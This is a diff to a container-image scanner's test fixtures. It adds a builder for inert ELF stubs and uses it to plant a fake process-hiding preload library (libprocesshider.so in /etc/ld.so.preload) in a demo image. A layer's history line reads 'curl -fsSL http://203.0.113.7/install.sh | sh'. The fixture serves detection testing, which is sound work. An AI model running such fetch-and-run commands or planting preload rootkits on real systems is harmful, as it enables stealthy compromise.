@@ -31,6 +31,33 @@ def _elf(marker: bytes, size: int = 4096) -> bytes:
     return body + b"\x00" * max(0, size - len(body))
 
 
+def _elf_library(exports: list[str], imports: list[str], strings: bytes) -> bytes:
+    """A 64-bit ELF shared object with only a dynamic symbol table (exported functions defined, imported
+    ones undefined) and some strings: what symbol readers see of a preload library; never loadable."""
+    import struct
+
+    dynstr = b"\0" + b"".join(n.encode() + b"\0" for n in exports + imports)
+    symbols = [bytes(24)]
+    at = 1
+    for number, name in enumerate(exports + imports):
+        shndx = 4 if number < len(exports) else 0  # defined in the strings section, or undefined
+        symbols.append(struct.pack("<IBBHQQ", at, 0x12, 0, shndx, 0x100 if shndx else 0, 16 if shndx else 0))
+        at += len(name) + 1
+    dynsym = b"".join(symbols)
+    shstr = b"\0.dynsym\0.dynstr\0.shstrtab\0.rodata\0"
+    body = dynsym + dynstr + shstr + strings
+    offsets = [64, 64 + len(dynsym), 64 + len(dynsym) + len(dynstr), 64 + len(dynsym) + len(dynstr) + len(shstr)]
+    shoff = 64 + len(body) + (-len(body) % 8)
+    head = (b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHIQQQIHHHHHH", 3, 0x3E, 1, 0, 0, shoff, 0, 64,
+                                                                 56, 0, 64, 5, 3))
+    sections = [bytes(64),
+                struct.pack("<IIQQQQIIQQ", 1, 11, 2, 0, offsets[0], len(dynsym), 2, 1, 8, 24),
+                struct.pack("<IIQQQQIIQQ", 9, 3, 2, 0, offsets[1], len(dynstr), 0, 0, 1, 0),
+                struct.pack("<IIQQQQIIQQ", 17, 3, 0, 0, offsets[2], len(shstr), 0, 0, 1, 0),
+                struct.pack("<IIQQQQIIQQ", 27, 1, 2, 0, offsets[3], len(strings), 0, 0, 1, 0)]
+    return head + body + bytes(-len(body) % 8) + b"".join(sections)
+
+
 def demo_spec(integrity: bool = False) -> ImageSpec:
     """The demo image. With `integrity`, layer 1's diff_id in the config is wrong (the layer still reads
     fine): the UI's demo shows an integrity finding too, while `explorer scan` on the plain demo
@@ -87,7 +114,7 @@ def demo_spec(integrity: bool = False) -> ImageSpec:
         Entry.file("/etc/ld.so.preload", b"/usr/local/lib/libprocesshider.so\n"),
         Entry.dir("/usr/local"), Entry.dir("/usr/local/lib"),
         Entry.file("/usr/local/lib/libprocesshider.so",
-                   _elf(b"readdir\x00readdir64\x00dlsym\x00/proc/self/fd/%d\x00/proc/%s/stat\x00kworker\x00")),
+                   _elf_library(["readdir", "readdir64"], ["dlsym"], b"/proc/self/fd/%d\x00/proc/%s/stat\x00kworker\x00")),
     ], created_by="/bin/sh -c curl -fsSL http://203.0.113.7/install.sh | sh", compression="gzip")
     cleanup = Layer([
         Entry.whiteout("/srv/app/.env"),
